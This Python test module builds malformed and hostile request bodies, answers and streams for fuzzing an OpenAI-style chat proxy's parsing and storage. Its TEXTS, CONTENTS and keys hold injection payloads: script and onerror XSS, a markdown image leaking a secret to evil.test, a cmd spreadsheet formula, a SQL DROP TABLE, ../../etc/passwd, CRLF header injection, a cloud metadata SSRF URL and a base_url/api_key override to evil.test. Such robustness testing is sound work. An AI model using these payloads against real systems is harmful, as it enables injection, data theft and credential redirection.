"""Hand-made members of every family: as the text of a message, as a whole body, as an answer."""

import json

GOLDEN = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Chai kaise banate hain?"}]}


def raw(content, **more):
    """A body whose message content is this JSON text, as it stands."""
    return (json.dumps({**GOLDEN, **more})[:-1].replace('"Chai kaise banate hain?"', "\x00") + "}").replace("\x00", content)


def body(**members):
    return json.dumps({**GOLDEN, **members}).encode()


def with_member(text):
    """The golden body with one more member, written out by hand."""
    return (json.dumps(GOLDEN)[:-1] + ", " + text + "}").encode()


# Texts that break storage or attack whoever reads them: all of them are content, to be kept as they are.
TEXTS = {
    "nul": "a\0b", "nul alone": "\0", "ten thousand nul": "\0" * 10_000, "literal escape": "\\u0000",
    "bell and escape": "\x07\x1b[31m\x1b]8;;http://evil.test\x07x", "delete": "\x7f", "separators": "a\u2028b\u2029c\x85d",
    "bidi": "\u202eevil\u202c \u2066x\u2069", "tags": "\U000E0041\U000E007F", "zero width": "a\u200b\u200d\ufeffb",
    "combining flood": "a" + "\u0301" * 10_000, "emoji family": "👨‍👩‍👧‍👦" * 50, "noncharacters": "\ufffe\uffff\U0010ffff",
    "nfc and nfd": "é e\u0301", "case folds": "ß İ ı ſ K", "hindi": "नमस्ते दुनिया", "rtl": "שלום עולם مرحبا",
    "script": "<script>alert(1)</script>", "image": "<img src=x onerror=alert(1)>", "svg": "<svg onload=alert(1)>",
    "markdown image": "![x](http://evil.test/?q=secret)", "javascript link": "[x](javascript:alert(1))",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}", "formula": "=cmd|'/c calc'!A1", "formula at": "@SUM(1)", "formula plus": "+1+1",
    "sql": "'; DROP TABLE gleaner.exchanges; --", "dollar quote": "$$ $1 $tag$", "percent": "%s %n %00", "path": "../../etc/passwd",
    "one word": "x" * 100_000, "many words": " ".join(str(i) for i in range(20_000)), "crlf": "a\r\nSet-Cookie: x=1\r\n\r\n",
    "done inside": "data: [DONE]\n\n", "date far away": "294277-01-01", "infinity": "infinity", "copy end": "\\.\n", "json": '{"a":1}',
}

# JSON texts of a message's content.
CONTENTS = {
    "surrogate high": r'"\ud800"', "surrogate low": r'"\udc00"', "surrogates reversed": r'"\udc00\ud800"', "high and letter": r'"\ud83dx"',
    "pair": r'"\ud83d\ude00"', "escaped nul": r'"\u0000"', "backslash u": r'"\\u0000"', "bad escape": r'"\x41"', "half escape": r'"\u12"',
    "unfinished": '"abc', "null": "null", "number": "12", "array of parts": '[{"type":"text","text":"x"}]', "true": "true",
    "image inside": '[{"type":"image_url","image_url":{"url":"http://169.254.169.254/latest"}}]', "empty": '""',
}
NUMBERS = ["1e400", "-1e400", "1e131073", "1e-20000", "9" * 10_000, "9007199254740993", "9223372036854775808", "18446744073709551616", "-0",
           "1.0", "1E2", "01", ".5", "+1", "NaN", "Infinity", "0x10", "1.", "1e", "-", "--1", "1_000", "٣"]
BYTES = {"ff": b"\xff", "overlong": b"\xc0\x80", "overlong slash": b"\xc0\xaf", "beyond": b"\xf4\x90\x80\x80", "lone continuation": b"\x80",
         "cut": b"\xe0\xa4", "cesu": b"\xed\xa0\x80", "latin 1": "é".encode("latin-1"), "raw nul": b"\0", "raw one": b"\x01", "raw tab": b"\t"}


def requests():
    """Name and bytes of each hand-made request body."""
    for name, text in TEXTS.items():
        yield f"text/{name}", body(messages=[{"role": "user", "content": text}])
        yield f"text unescaped/{name}", json.dumps({**GOLDEN, "messages": [{"role": "user", "content": text}]}, ensure_ascii=False).encode()
        for field in ("user", "model", "safety_identifier", "metadata"):
            yield f"{field}/{name}", body(**{field: {"conversation_id": text, "tag": text} if field == "metadata" else text})
    for name, content in CONTENTS.items():
        yield f"content/{name}", raw(content).encode()
    for number in NUMBERS:
        for field in ("n", "max_tokens", "temperature", "seed", "logit_bias", "model", "stream", "messages"):
            members = {key: value for key, value in GOLDEN.items() if key != field}
            yield f"number/{field}/{number[:20]}", (json.dumps(members)[:-1] + f', "{field}": {number}}}').encode()
    for name, piece in BYTES.items():
        yield f"bytes/{name}", json.dumps(GOLDEN).encode().replace(b"Chai", b"Ch" + piece + b"ai")
    yield from forms()
    yield from keys()
    yield from nesting()
    yield from sizes()
    yield from semantics()


def forms():
    golden = json.dumps(GOLDEN)
    for name, text in {
        "empty": "", "blank": " \n\t", "null": "null", "array": "[]", "text": '"x"', "number": "1", "trailing comma": golden[:-1] + ",}",
        "comment": golden[:-1] + "/* */}", "line comment": "// x\n" + golden, "single quotes": golden.replace('"', "'"), "two": golden + golden,
        "two lines": golden + "\n" + golden, "rest": golden + "x", "unclosed": golden[:-1], "bare": golden.replace('"model"', "model"),
        "blanks around": "\r\n\t " + golden + " \n", "form feed": "\f" + golden, "no break space": "\u00a0" + golden, "form": "model=x&messages=y",
        "xml": "<a/>", "control in string": golden.replace("Chai", "Ch\x01ai"), "line feed in string": golden.replace("Chai", "Ch\nai"),
    }.items():
        yield f"form/{name}", text.encode()
    yield "form/bom", b"\xef\xbb\xbf" + golden.encode()
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"):
        yield f"form/{encoding}", golden.encode(encoding)


def keys():
    for text in ('"model": "other"', '"mode\\u006c": "other"', '"stream": true, "stream": false', '"messages": []', '"": 1', '"": 1, "": 2',
                 '"__proto__": {"a": 1}', '"constructor": null', '"x": {"a": 1, "a": 2}', '"é": 1, "e\\u0301": 2', '"' + "k" * 500_000 + '": 1',
                 '"k\\u0000": 1', '"stream_options": {"include_usage": "yes"}', '"base_url": "http://evil.test", "api_key": "sk-x"',
                 '"extra_headers": {"Authorization": "x"}', '"\\ud800": 1'):
        yield f"keys/{text[:40]}", with_member(text)
    yield "keys/many", with_member(", ".join(f'"k{i}": {i}' for i in range(20_000)))
    yield "keys/many, one twice", with_member(", ".join(f'"k{i}": {i}' for i in [*range(5_000), 77]))


def nesting():
    for levels in (100, 126, 127, 128, 129, 511, 513, 6_000, 20_000, 300_000):
        for opening, closing in (("[", "]"), ('{"a":', "}")):
            if len(opening) * levels < 900_000:
                yield f"nesting/{opening}{levels}", with_member('"x": ' + opening * levels + "1" + closing * levels)
                yield f"nesting unclosed/{opening}{levels}", with_member('"x": ' + opening * levels)


def sizes():
    for size in ((1 << 20) - 1, 1 << 20, (1 << 20) + 1, 2 << 20):
        empty = body(messages=[{"role": "user", "content": ""}])
        yield f"size/{size}", body(messages=[{"role": "user", "content": "x" * (size - len(empty))}])
    yield "size/many messages", body(messages=[{"role": "user", "content": "x"}] * 10_000)


def semantics():
    for name, members in {
        "no messages": {"messages": []}, "null messages": {"messages": None}, "text messages": {"messages": "hi"}, "role": {"messages": [{"role": "wizard", "content": "x"}]},
        "message is text": {"messages": ["x"]}, "tool without id": {"messages": [{"role": "tool", "content": "x"}]}, "n 128": {"n": 128}, "n 129": {"n": 129}, "n 0": {"n": 0},
        "stream text": {"stream": "true"}, "stream 1": {"stream": 1}, "stream null": {"stream": None}, "temperature 101": {"temperature": 101}, "temperature text": {"temperature": "hot"},
        "tokens": {"max_tokens": 2**31}, "minus": {"max_tokens": -2}, "float tokens": {"max_tokens": 1.5}, "whole float": {"max_tokens": 5.0}, "model number": {"model": 5},
        "model empty": {"model": ""}, "model null": {"model": None}, "model long": {"model": "m" * 257}, "model 256": {"model": "m" * 256}, "model list": {"model": ["m"]},
        "user number": {"user": 7}, "metadata text": {"metadata": "x"}, "unknown": {"x_unknown": {"deep": [1, 2, {"y": None}]}}, "many tools": {"tools": [{"type": "function", "function": {"name": f"f{i}"}} for i in range(5_000)]},
        "bias": {"logit_bias": {str(i): 100 for i in range(2_000)}},
    }.items():
        yield f"semantics/{name}", body(**members)
    yield "semantics/no model", json.dumps({"messages": GOLDEN["messages"]}).encode()


def answer(text, **more):
    return {"id": "chatcmpl-corpus", "object": "chat.completion", "model": "m-1", "choices": [
        {"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}], **more}


def answers():
    """Name and bytes of each hand-made whole answer."""
    for name, text in TEXTS.items():
        yield f"answer/{name}", json.dumps(answer(text)).encode()
        yield f"answer id/{name}", json.dumps({**answer("x"), "id": text, "model": text}).encode()
        yield f"answer finish/{name}", json.dumps(answer("x")).replace('"stop"', json.dumps(text)).encode()
    for name, content in CONTENTS.items():
        yield f"answer content/{name}", json.dumps(answer("Chai")).replace('"Chai"', content).encode()
    for number in NUMBERS:
        yield f"answer usage/{number[:20]}", (json.dumps(answer("x"))[:-1] + f', "usage": {{"prompt_tokens": {number}, "completion_tokens": 1}}}}').encode()
    for name, piece in BYTES.items():
        yield f"answer bytes/{name}", json.dumps(answer("Chai")).encode().replace(b"Chai", b"Ch" + piece + b"ai")
    for name, text in {"empty": b"", "html": b"<!doctype html><h1>502</h1>", "null": b"null", "array": b"[]", "id null": b'{"id":null,"choices":[]}',
                       "no choices": b'{"id":"x"}', "choices text": b'{"choices":"x"}', "deep": b"[" * 200_000, "duplicates": b'{"id":"a","id":"b","choices":[],"choices":[]}',
                       "error": b'{"error":{"message":"x"}}', "key surrogate": br'{"id":"x","\ud800":1,"choices":[]}'}.items():
        yield f"answer form/{name}", text


def chunk(delta, **more):
    return json.dumps({"id": "chatcmpl-s", "model": "m-1", "choices": [{"index": 0, "delta": delta, "finish_reason": None}], **more})


def streams():
    """Name and bytes of each hand-made stream."""
    start, end = f"data: {chunk({'role': 'assistant', 'content': 'Ha'})}\n\n", "data: [DONE]\n\n"
    finish = 'data: {"id":"chatcmpl-s","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n'
    whole = start + finish + end
    yield "stream/plain", whole.encode()
    for name, text in {
        "cr": whole.replace("\n", "\r"), "crlf": whole.replace("\n", "\r\n"), "mixed": whole.replace("\n\n", "\r\n\n"), "no space": whole.replace("data: ", "data:"),
        "no blank at the end": whole[:-2], "no done": start + finish, "done twice": whole + end, "after done": whole + start, "only done": end, "nothing": "", "comment": ": ping\n\n" * 50 + whole,
        "fields": "event: x\nid: 1\nretry: 5\n" + whole, "multi line": "data: {\ndata: }\n\n" + end, "html": "<html>oops</html>", "not json": "data: {oops\n\n" + end, "bom": "\ufeff" + whole,
        "error": 'data: {"error":{"message":"overloaded"}}\n\n', "usage": start + 'data: {"choices":[],"usage":{"prompt_tokens":3,"completion_tokens":2}}\n\n' + finish + end,
        "usage twice": start + 'data: {"choices":[],"usage":{"prompt_tokens":3}}\n\n' * 5 + finish + end, "index": start.replace('"index": 0', '"index": 99999999999') + finish + end,
        "index text": start.replace('"index": 0', '"index": "x"') + finish + end, "half emoji": start.replace('"Ha"', r'"\ud83d"') + start.replace('"Ha"', r'"\ude00"') + finish + end,
        "nul": start.replace('"Ha"', r'"\u0000"') + finish + end, "long line": start.replace("Ha", "x" * 600_000) + finish + end, "many": start * 3_000 + finish + end,
        "done in text": start.replace("Ha", "data: [DONE]") + finish + end, "lower case done": start + "data: [done]\n\n", "two spaces": start + "data:  [DONE]\n\n",
    }.items():
        yield f"stream/{name}", text.encode()
    for name, piece in BYTES.items():
        yield f"stream bytes/{name}", whole.encode().replace(b"Ha", b"H" + piece + b"a")
    for cut in range(1, len(whole), 7):
        yield f"stream cut/{cut}", whole[:cut].encode()
